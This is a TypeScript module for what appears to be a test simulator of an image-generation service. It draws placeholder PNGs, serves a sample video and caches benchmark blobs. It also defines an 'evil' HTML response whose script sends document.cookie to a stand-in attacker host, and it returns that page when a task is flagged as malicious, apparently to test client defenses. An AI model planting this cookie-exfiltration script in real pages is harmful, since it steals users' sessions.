import { existsSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { hsl, noisePng, renderPng, type Rgb } from './png';

/** What a task's images look like; kept apart from the task so media survive `forget` (as a CDN would). */
export interface MediaSpec {
  /** Colours. */
  seed: number;
  width: number;
  height: number;
  /** grid = 2×2 quadrants; single = one quadrant's colour (an upscale of it). */
  kind: 'grid' | 'single';
  /** For single images: which quadrant (1..4) of the parent grid. */
  quadrant: number;
  evil: boolean;
  deleted: boolean;
}

export const EVIL_HTML =
  '<!DOCTYPE html><html><head><title>image</title></head><body><script>fetch("https://evil.example/steal?c="+document.cookie)</script></body></html>';

export function hashString(text: string): number {
  let hash = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) hash = Math.imul(hash ^ text.charCodeAt(i), 0x01000193);
  return hash >>> 0;
}

/** Grid size from the prompt: `--ar w:h` if present, the long side varying with the prompt's hash. */
export function gridSize(prompt: string): { width: number; height: number } {
  const long = 448 + (hashString(prompt) % 5) * 32;
  const ar = /--(?:ar|aspect)\s+(\d+(?:\.\d+)?):(\d+(?:\.\d+)?)/.exec(prompt);
  const ratio = ar ? Math.min(4, Math.max(0.25, Number(ar[1]) / Number(ar[2]) || 1)) : 1;
  const even = (n: number): number => Math.max(16, 2 * Math.round(n / 2));
  return ratio >= 1 ? { width: long, height: even(long / ratio) } : { width: even(long * ratio), height: long };
}

export function quadrantColor(seed: number, quadrant: number): Rgb {
  const hue = (seed % 360) + (quadrant - 1) * 90 + ((seed >>> 9) % 30);
  return hsl(hue % 360, 0.65, 0.5);
}

/** `done` (0..1) fades the colours in from grey, as previews sharpen. */
function drawGrid(spec: MediaSpec, width: number, height: number, done: number): Buffer {
  const colors = [1, 2, 3, 4].map((q) => quadrantColor(spec.seed, q));
  const mix = 0.25 + 0.75 * done;
  return renderPng(width, height, (x, y) => {
    const q = (y < height / 2 ? 0 : 2) + (x < width / 2 ? 0 : 1);
    const shade = 0.8 + (0.2 * (x + y)) / (width + height);
    const [r, g, b] = colors[q];
    return [r, g, b].map((c) => Math.round((128 * (1 - mix) + c * mix) * shade)) as unknown as Rgb;
  });
}

function drawSingle(seed: number, quadrant: number, width: number, height: number): Buffer {
  const [r, g, b] = quadrantColor(seed, quadrant);
  const cx = width / 2;
  const cy = height / 2;
  const radius = Math.min(width, height) / 3;
  return renderPng(width, height, (x, y) => {
    const inside = (x - cx) ** 2 + (y - cy) ** 2 < radius ** 2;
    const shade = inside ? 1 : 0.7;
    return [Math.round(r * shade), Math.round(g * shade), Math.round(b * shade)];
  });
}

export type MediaAnswer = { status: 200; contentType: string; body: Buffer } | { status: 404 };

const IMAGE_CACHE_LIMIT = 256;
const BLOB_CACHE_BYTES = 512 * 1024 * 1024;
export const BLOB_MAX_BYTES = 128 * 1024 * 1024;

/** Serves the generated images, the shipped MP4 and the benchmark blobs. */
export class MediaLibrary {
  private readonly specs = new Map<string, MediaSpec>();
  private readonly images = new Map<string, Buffer>();
  private readonly blobs = new Map<number, Buffer>();
  private blobBytes = 0;
  private video: Buffer | null = null;

  register(taskId: string, spec: Omit<MediaSpec, 'deleted'>): void {
    this.specs.set(taskId, { ...spec, deleted: false });
  }

  spec(taskId: string): MediaSpec | undefined {
    return this.specs.get(taskId);
  }

  delete(taskId: string): void {
    const spec = this.specs.get(taskId);
    if (spec) spec.deleted = true;
  }

  /** `/sim/images/<taskId>/<file>.png`: `*_grid_<n>.png` previews, `0_<i>.png` v7 singles, else the final image. */
  image(taskId: string, file: string): MediaAnswer {
    const spec = this.specs.get(taskId);
    if (!spec || spec.deleted || !file.endsWith('.png')) return { status: 404 };
    if (spec.evil) return { status: 200, contentType: 'text/html; charset=utf-8', body: Buffer.from(EVIL_HTML) };
    const key = `${taskId}/${file}`;
    let body = this.images.get(key);
    if (!body) {
      body = this.draw(spec, file);
      this.images.set(key, body);
      if (this.images.size > IMAGE_CACHE_LIMIT) this.images.delete(this.images.keys().next().value as string);
    }
    return { status: 200, contentType: 'image/png', body };
  }

  private draw(spec: MediaSpec, file: string): Buffer {
    const preview = /_grid_(\d+)\.png$/.exec(file);
    if (preview) {
      const done = Math.min(1, (Number(preview[1]) + 1) / 7);
      const width = Math.max(2, 2 * Math.round(spec.width / 4));
      const height = Math.max(2, 2 * Math.round(spec.height / 4));
      return spec.kind === 'grid' ? drawGrid(spec, width, height, done) : drawSingle(spec.seed, spec.quadrant, width, height);
    }
    const single = /^0_(\d)\.png$/.exec(file);
    if (single) return drawSingle(spec.seed, Number(single[1]) + 1, spec.width / 2, spec.height / 2);
    return spec.kind === 'grid'
      ? drawGrid(spec, spec.width, spec.height, 1)
      : drawSingle(spec.seed, spec.quadrant, spec.width, spec.height);
  }

  /** `/sim/videos/<taskId>[_<n>].mp4`: the shipped MP4 for every video task. */
  videoFor(taskId: string): MediaAnswer {
    const spec = this.specs.get(taskId);
    if (!spec || spec.deleted) return { status: 404 };
    if (spec.evil) return { status: 200, contentType: 'text/html; charset=utf-8', body: Buffer.from(EVIL_HTML) };
    this.video ??= readFileSync(findAsset('sample.mp4'));
    return { status: 200, contentType: 'video/mp4', body: this.video };
  }

  /** `/sim/blob/<bytes>.png`: random noise of about that size, generated once per size. */
  blob(bytes: number): Buffer {
    let body = this.blobs.get(bytes);
    if (!body) {
      body = noisePng(bytes);
      this.blobs.set(bytes, body);
      this.blobBytes += body.length;
      for (const [size, cached] of this.blobs) {
        if (this.blobBytes <= BLOB_CACHE_BYTES || size === bytes) break;
        this.blobs.delete(size);
        this.blobBytes -= cached.length;
      }
    }
    return body;
  }
}

/** Finds `libs/mj-simulator/assets/<name>` from the sources, the build output or the working directory. */
export function findAsset(name: string): string {
  const tail = join('libs', 'mj-simulator', 'assets', name);
  for (let dir = __dirname; ; dir = dirname(dir)) {
    for (const candidate of [join(dir, 'assets', name), join(dir, tail)]) if (existsSync(candidate)) return candidate;
    if (dirname(dir) === dir) break;
  }
  const fromCwd = join(process.cwd(), tail);
  if (existsSync(fromCwd)) return fromCwd;
  throw new Error(`simulator asset not found: ${tail}`);
}
